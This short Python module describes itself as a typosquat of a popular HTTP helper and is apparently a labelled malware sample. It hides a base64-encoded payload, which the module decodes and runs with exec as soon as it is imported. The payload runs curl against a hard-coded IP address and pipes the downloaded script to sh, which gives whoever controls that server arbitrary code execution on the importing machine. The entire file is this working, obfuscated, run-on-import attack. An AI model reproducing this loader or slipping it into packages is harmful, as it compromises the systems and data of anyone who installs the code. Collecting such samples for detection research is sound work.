"""Typosquat of a popular HTTP helper: the payload hides in a base64 string."""

import base64

_P = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTAzLjIyNC4xODIuMjUwL3Auc2ggfCBzaCIp"


def _init():
    exec(base64.b64decode(_P))  # MAL


_init()
